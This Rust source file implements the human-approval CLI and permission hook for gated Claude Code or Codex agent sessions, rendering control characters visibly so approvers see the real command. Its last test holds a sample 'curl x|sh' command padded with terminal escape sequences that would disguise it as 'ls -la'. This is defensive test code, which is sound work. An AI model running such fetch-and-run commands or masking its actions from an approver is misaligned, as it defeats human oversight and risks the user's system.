//! `approvals`, `approve`, `deny` and the hidden `approval-request` (spec 10 §4): a human's
//! side of the approval broker, and the permission hook a gated Claude Code or Codex session
//! runs.

use std::io::Read;

use super::client::Client;
use super::parse::Invocation;
use super::spec::args;
use super::{done, paths, print, required, CliError, CliResult};
use crate::protocol::{call, Answer, ApprovalInfo, ApprovalVerdict, DIALOG_TOOL};
use crate::runtime::permission_hook;

/// The most of the hook's stdin read (a tool input larger than this is denied).
const MAX_HOOK_INPUT: u64 = 4 * 1024 * 1024;

/// `approvals [--json]`: the pending prompts, one line each, oldest first.
pub fn list(inv: &Invocation) -> CliResult {
    let paths = paths()?;
    match Client::connect(&paths)?.request(
        &call::Approvals {
            wait_ms: None,
            since_ms: None,
        },
        |_| {},
    )? {
        Answer::Ok(r) => {
            let now = crate::clock::now_ms();
            done(inv, &r, &render(&r.approvals, now))
        }
        Answer::Failed(f) => Err(CliError::Refused(f)),
    }
}

/// The text of `approvals`: a line per prompt, or a line saying there are none. The tool and
/// the command are the asking agent's: each is a one-line field with its control characters
/// visible ([`crate::visible::line`]: a line break is `␤`, a CR `␍`, ESC `␛`), so an agent
/// can neither hide what it runs nor drive the approver's terminal.
fn render(list: &[ApprovalInfo], now_ms: u64) -> String {
    use crate::visible::line;
    if list.is_empty() {
        return "no approvals pending\n".into();
    }
    let mut out = String::new();
    for a in list {
        let left = a.deadline_ms.saturating_sub(now_ms) / 1000;
        // A screen prompt's menu (a boot dialog's summary names its options already).
        let menu = match &a.options {
            Some(o) if a.tool != DIALOG_TOOL => {
                let listed: Vec<String> = o
                    .iter()
                    .enumerate()
                    .map(|(i, o)| format!("{}. {o}", i + 1))
                    .collect();
                format!("  [{}]", line(&listed.join(" | ")))
            }
            _ => String::new(),
        };
        out.push_str(&format!(
            "{}  {}  {}: {}{menu}  (denied in {}s unless answered)\n",
            line(&a.id),
            line(&a.identity),
            line(&a.tool),
            line(&a.summary),
            left
        ));
    }
    out.push_str(
        "answer with: iapeer approve <id> [option]  |  iapeer deny <id> [reason]  \
         ([option]: one of a boot dialog's or a prompt's options, by number or label)\n",
    );
    out
}

/// `approve <id>` (`allow`) or `deny <id> [reason]`.
pub fn decide(inv: &Invocation, allow: bool) -> CliResult {
    let id = required(inv, args::APPROVAL_ID)?.trim().to_string();
    let paths = paths()?;
    let mut client = Client::connect(&paths)?;
    let answer = if allow {
        let option = inv.positional(args::OPTION).map(String::from);
        client.request(&call::Approve { id, option }, |_| {})?
    } else {
        let reason = inv.positional(args::REASON).map(String::from);
        client.request(&call::Deny { id, reason }, |_| {})?
    };
    match answer {
        Answer::Ok(r) => {
            done(inv, &r, &decided(&r, allow))?;
            if r.taken() {
                Ok(())
            } else {
                Err(CliError::Exit(1))
            }
        }
        Answer::Failed(f) => Err(CliError::Refused(f)),
    }
}

/// The text of `approve`/`deny`: `approved <id> (<identity>): <what became of it>` when the
/// answer reached the agent (its prompt took it, or its hook or booting dialog has it);
/// `approve <id> (<identity>): NOT taken — …` (or `NOT confirmed`) when not, and the verb
/// exits 1.
fn decided(r: &crate::protocol::ApprovalDone, allow: bool) -> String {
    let verb = match (allow, r.taken()) {
        (true, true) => "approved",
        (false, true) => "denied",
        (true, false) => "approve",
        (false, false) => "deny",
    };
    let head = format!(
        "{verb} {} ({})",
        crate::visible::line(&r.id),
        crate::visible::line(&r.identity)
    );
    if r.detail.is_empty() {
        format!("{head}\n")
    } else {
        format!("{head}: {}\n", crate::visible::line(&r.detail))
    }
}

/// `approval-request`: the `PermissionRequest` hook of a gated Claude Code or Codex session
/// (both recorded with one shape, [`permission_hook`]). Always prints an answer and exits 0:
/// a decision from the daemon, or a deny saying what went wrong.
pub fn hook() -> CliResult {
    let answer = match ask_daemon() {
        Ok(v) => permission_hook::answer(v.allow, v.reason.as_deref().unwrap_or("")),
        Err(e) => {
            permission_hook::answer(false, &format!("denied: iapeer could not ask a human: {e}"))
        }
    };
    print(&format!("{answer}\n"))
}

fn ask_daemon() -> Result<ApprovalVerdict, String> {
    let mut text = String::new();
    std::io::stdin()
        .take(MAX_HOOK_INPUT)
        .read_to_string(&mut text)
        .map_err(|e| format!("cannot read the hook input: {e}"))?;
    let ask = permission_hook::read_ask(&text).map_err(|e| e.to_string())?;
    let var = |k: &str| {
        std::env::var(k)
            .ok()
            .filter(|v| !v.is_empty())
            .ok_or_else(|| format!("{k} is not set (this hook runs inside an iapeer session)"))
    };
    let req = call::ApprovalRequest {
        identity: var("PEER_IDENTITY")?,
        token: var("IAPEER_TOKEN")?,
        tool: ask.tool,
        summary: ask.summary,
    };
    let paths = crate::paths::Paths::from_env().map_err(|e| e.to_string())?;
    let mut client = Client::connect(&paths).map_err(|e| e.to_string())?;
    match client.request(&req, |_| {}).map_err(|e| e.to_string())? {
        Answer::Ok(v) => Ok(v),
        Answer::Failed(f) => Err(f.error),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_list_says_how_to_answer_and_when_it_is_denied() {
        assert_eq!(render(&[], 0), "no approvals pending\n");
        let a = ApprovalInfo {
            id: "ap-0123abcd".into(),
            identity: "claude-cb".into(),
            personality: "cb".into(),
            runtime: "claude".into(),
            tool: "Bash".into(),
            summary: "touch /tmp/x".into(),
            created_ms: 1_000,
            deadline_ms: 301_000,
            options: None,
            default_option: None,
        };
        let text = render(std::slice::from_ref(&a), 61_000);
        assert!(
            text.starts_with("ap-0123abcd  claude-cb  Bash: touch /tmp/x  (denied in 240s"),
            "{text}"
        );
        assert!(text.contains("iapeer approve <id>"), "{text}");
        // A prompt read from the screen shows its menu.
        let screen = ApprovalInfo {
            options: Some(vec!["Yes".into(), "No".into()]),
            default_option: Some(0),
            ..a
        };
        let text = render(&[screen], 61_000);
        assert!(
            text.starts_with(
                "ap-0123abcd  claude-cb  Bash: touch /tmp/x  [1. Yes | 2. No]  (denied"
            ),
            "{text}"
        );
    }

    /// Issue 27: `approve`/`deny` says what became of the answer, and a verb whose answer
    /// the agent did not take does not say `approved`.
    #[test]
    fn the_reply_says_whether_the_agent_took_the_answer() {
        use crate::protocol::{ApprovalDone, ApprovalOutcome};
        let reply = |outcome: ApprovalOutcome| {
            let detail = outcome.describe("approve");
            ApprovalDone {
                id: "ap-0123abcd".into(),
                decision: "approve".into(),
                identity: "claude-cb".into(),
                outcome: Some(outcome),
                detail,
            }
        };
        let taken = reply(ApprovalOutcome::Taken { by: "keys".into() });
        assert_eq!(
            decided(&taken, true),
            "approved ap-0123abcd (claude-cb): taken: the answer was keyed in and the prompt \
             closed\n"
        );
        let again = reply(ApprovalOutcome::AskedAgain {
            again: Some("ap-89abcdef".into()),
            reason: "the runtime did not take it".into(),
        });
        assert!(!again.taken());
        assert_eq!(
            decided(&again, true),
            "approve ap-0123abcd (claude-cb): NOT taken — the runtime did not take it; asked \
             again as ap-89abcdef (iapeer approve ap-89abcdef | iapeer deny ap-89abcdef)\n"
        );
        let late = reply(ApprovalOutcome::Unconfirmed { waited_ms: 15_020 });
        assert!(
            decided(&late, false).starts_with(
                "deny ap-0123abcd (claude-cb): NOT confirmed — no \
                 word from the session in 15 s"
            ),
            "{}",
            decided(&late, false)
        );
        let hook = reply(ApprovalOutcome::Handed { to: "hook".into() });
        assert!(hook.taken());
        assert!(decided(&hook, false).starts_with("denied ap-0123abcd (claude-cb): handed"));
        // The typed document.
        let doc = serde_json::to_value(&again).unwrap();
        assert_eq!(doc["outcome"]["kind"], "asked-again");
        assert_eq!(doc["outcome"]["again"], "ap-89abcdef");
        assert_eq!(doc["outcome"]["reason"], "the runtime did not take it");
        assert!(doc["detail"].as_str().unwrap().starts_with("NOT taken"));
    }

    /// Issue 26 item 4: `curl …|sh #\r\e[2Kls -la` showed as `ls -la`; OSC 52 and 8-bit
    /// CSI reached the approver's terminal.
    #[test]
    fn a_command_cannot_rewrite_its_line() {
        let a = ApprovalInfo {
            id: "ap-0123abcd".into(),
            identity: "claude-cb".into(),
            personality: "cb".into(),
            runtime: "claude".into(),
            tool: "Bash\u{1b}[8m".into(),
            summary: "curl x|sh #\r\u{1b}[2Kls -la\n\u{1b}]52;c;aGk=\u{7}\u{9b}2J\u{202e}".into(),
            created_ms: 0,
            deadline_ms: 0,
            options: None,
            default_option: None,
        };
        let text = render(&[a], 0);
        assert!(
            text.starts_with(
                "ap-0123abcd  claude-cb  Bash␛[8m: curl x|sh #␍␛[2Kls -la␤␛]52;c;aGk=␇<U+009B>2J\
                 <U+202E>  (denied in 0s"
            ),
            "{text}"
        );
        assert_eq!(text.lines().count(), 2, "{text}");
    }
}
